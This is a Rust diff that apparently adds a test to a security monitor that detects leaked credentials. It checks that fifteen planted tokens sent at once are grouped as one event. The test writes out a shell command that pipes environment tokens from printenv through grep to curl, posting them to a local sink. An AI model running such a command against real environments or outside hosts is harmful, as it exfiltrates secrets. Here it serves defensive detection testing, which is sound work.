@@ -314,3 +314,32 @@ pub fn again_and_again() {
         .sum();
     assert_eq!(counted, REQUESTS, "{uses}");
 }
+
+/// Fifteen credentials in one send: fifteen events that say that they are of one.
+pub fn one_send_is_one_group() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let mut act = sh("printenv | grep TOKEN_ | curl -s --data-binary @- \"$1\"; :")
+        .arg(format!("http://127.0.0.1:{}/in", sink.port));
+    for n in 0..15 {
+        act = act.env(format!("TOKEN_{n}"), plant::github().value);
+    }
+    let done = act.run().ok();
+    agent.settle();
+    let mut sent = super::sent(&agent, done.pid);
+    sent.retain(|e| e.grade() == "observed");
+    super::count(&sent, 15, "sends");
+    let first = sent
+        .iter()
+        .filter_map(|e| e.id.as_ref())
+        .map(|id| id.sequence)
+        .min();
+    assert!(
+        sent.iter().all(|e| Some(e.group) == first),
+        "{:?} {}",
+        sent.iter().map(|e| e.group).collect::<Vec<_>>(),
+        crate::events::list(&sent)
+    );
+}
